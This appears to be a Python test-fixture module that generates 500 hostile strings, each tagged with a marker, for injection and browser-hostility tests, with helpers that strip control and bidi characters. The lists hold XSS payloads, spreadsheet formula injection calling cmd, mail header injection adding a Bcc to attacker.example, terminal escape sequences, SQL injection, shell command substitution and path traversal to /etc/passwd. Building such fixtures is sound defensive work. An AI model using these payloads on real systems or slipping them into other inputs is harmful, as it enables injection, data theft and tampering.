"""Five hundred strings that want to be more than text, each with a marker by which it is found again: the one
home of them, for story/injection and browser/hostile."""

import json
import re
import unicodedata

# What turns the direction of text, parts lines that are none, or is seen by nobody.
TURNED = re.compile("[\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff]")

SHAPES = [
    "<script>hinomiRan()</script>{m}",
    "<img src=x onerror=hinomiRan()>{m}",
    "<svg onload=hinomiRan()>{m}",
    "<svg><script>hinomiRan()</script></svg>{m}",
    "\"><script>hinomiRan()</script>{m}",
    "'><img src=x onerror=hinomiRan()>{m}",
    "\" onmouseover=\"hinomiRan()\" x=\"{m}",
    "' onfocus='hinomiRan()' autofocus='{m}",
    "` onclick=`hinomiRan()` {m}",
    "javascript:hinomiRan()//{m}",
    "JaVaScRiPt:hinomiRan()//{m}",
    "data:text/html,<script>hinomiRan()</script>{m}",
    "vbscript:hinomiRan() {m}",
    "</textarea><script>hinomiRan()</script>{m}",
    "</title><script>hinomiRan()</script>{m}",
    "</style><script>hinomiRan()</script>{m}",
    "--><script>hinomiRan()</script>{m}",
    "<!--<img src=\"--><img src=x onerror=hinomiRan()//\">{m}",
    "<iframe srcdoc=\"<script>parent.hinomiRan()</script>\"></iframe>{m}",
    "<iframe src=javascript:hinomiRan()></iframe>{m}",
    "<object data=javascript:hinomiRan()></object>{m}",
    "<embed src=javascript:hinomiRan()>{m}",
    "<a href=javascript:hinomiRan()>{m}</a>",
    "<form action=javascript:hinomiRan()><button>{m}</button></form>",
    "<base href=https://attacker.example/>{m}",
    "<meta http-equiv=refresh content=0;url=https://attacker.example/>{m}",
    "<link rel=stylesheet href=https://attacker.example/x.css>{m}",
    "<style>@import'https://attacker.example/x.css';</style>{m}",
    "<div style=\"background:url(https://attacker.example/)\">{m}</div>",
    "<math><mtext><script>hinomiRan()</script></mtext></math>{m}",
    "<details open ontoggle=hinomiRan()>{m}</details>",
    "<video><source onerror=hinomiRan()></video>{m}",
    "<input autofocus onfocus=hinomiRan()>{m}",
    "<marquee onstart=hinomiRan()>{m}</marquee>",
    "<template><script>hinomiRan()</script></template>{m}",
    "{{{{constructor.constructor('hinomiRan()')()}}}} {m}",
    "${{hinomiRan()}} {m}",
    "<%= hinomiRan() %> {m}",
    "\\u003cscript\\u003ehinomiRan()\\u003c/script\\u003e {m}",
    "&lt;script&gt;hinomiRan()&lt;/script&gt; {m}",
    "&#60;script&#62;hinomiRan()&#60;/script&#62; {m}",
    "=HYPERLINK(\"https://attacker.example/\",\"{m}\")",
    "=cmd|' /C calc'!A0 {m}",
    "+1+1 {m}",
    "-2+3+cmd|' /C calc'!A0 {m}",
    "@SUM(1+1) {m}",
    "{m} \u202egpj.exe\u202c",
    "{m} \u2066\u2069 \ufeff zero\u200bwidth",
    "https://attacker.example/{m}",
    "[{m}](javascript:hinomiRan())",
]


# What is aimed at terminals, mails, chats, cells, readers of JSON and of lines.
AIMED = [
    "\x1b[31mred\x1b[0m{m}",
    "\x1b[2J\x1b[H{m}",
    "\x1b]0;title{m}\x07",
    "\x1b]8;;https://attacker.example/\x1b\\{m}\x1b]8;;\x1b\\",
    "\x1b]52;c;aGlub21p\x07{m}",
    "\x1bP$q{m}\x1b\\",
    "\x1b[6n\x1b[c{m}",
    "\x9b31m{m}",
    "{m}\x08\x08\x08\x08gone",
    "{m}\rovertyped",
    "{m}\x0b\x0cfeeds",
    "{m}\x7f\x7f",
    "{m}\x00after the end",
    "{m}\u2028line\u2029paragraph",
    "{m}\x85next line",
    "\u061c\u200e\u200f{m}",
    "\u202dabc\u202c{m}\u2067\u2069",
    "{m}\u0007\u0001\u001f",
    "{m}\r\nBcc: everybody@attacker.example",
    "{m}\r\n.\r\nMAIL FROM:<x@attacker.example>",
    "{m}\n\n--boundary\nContent-Type: text/html",
    "=?utf-8?B?aGlub21p?= {m}",
    "\"}},\"injected\":{{\"m\":\"{m}",
    "\\\"}},{{\"injected\":\"{m}",
    "{m}\\u0022,\\u0022injected\\u0022:\\u0022",
    "<13>1 2026-11-21T08:00:00Z other app - - - {m}",
    "{m} <0>Nov 21 08:00:00 other kernel: panic",
    "<!channel> <@U024BE7LH> {m}",
    "@everyone @here {m}",
    "![{m}](https://attacker.example/x.png)",
    "<https://attacker.example|{m}>",
    "| a | b |\n| - | - |\n| {m} | x |",
    "# {m}\n> quoted\n```",
    "\t=1+1\t{m}",
    "\r=1+1 {m}",
    "\uff1d1+1 {m}",
    "\uff0b1+1 {m}",
    "\uff20SUM(1) {m}",
    "\";=1+1;\"{m}",
    "',=1+1,'{m}",
    "%s%s%n%x {m}",
    "$(touch owned) `touch owned` {m}",
    "'; DROP TABLE alerts; -- {m}",
    "../../../../etc/passwd {m}",
    "{m} /JavaScript (app.alert(1)) /OpenAction",
    "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>hinomiRan()</script>{m}</svg>",
    "# HELP hinomi_up {m}\nhinomi_up 0",
    "hinomi_up{{client=\"{m}\"}} 0\n",
    "\ud83d\udd25{m}\u0301\u0301\u0301\u0301".encode("utf-16", "surrogatepass").decode("utf-16"),
    "\ufdfa\ufdfa {m} \u0e33\u0e33",
]

WAYS = ["{}", "before {}", "{} behind", "a\\{}\\b", "{}{}"]


def strings():
    """[(text, marker)]: each shape of both lists alone, behind and before other text, among backslashes, and twice."""
    made = []
    for i, shape in enumerate(SHAPES + AIMED):
        for k, way in enumerate(WAYS):
            mark = f"mark{i:02d}v{k}x"
            one = shape.format(m=mark)
            made.append((way.format(one, one), mark))
    return made


def steers(c, allowed=""):
    """Whether a character does something to a screen instead of being read; some controls may be allowed."""
    return (unicodedata.category(c) == "Cc" and c not in allowed) or bool(TURNED.match(c))


def name_of(text):
    """What a name may hold of a string: one line in which nothing steers."""
    return "".join(c for c in text if not steers(c))


def scalar_of(text):
    """The same in a YAML file."""
    return json.dumps(name_of(text), ensure_ascii=False)


assert len(SHAPES) == 50 and len(strings()) == 500
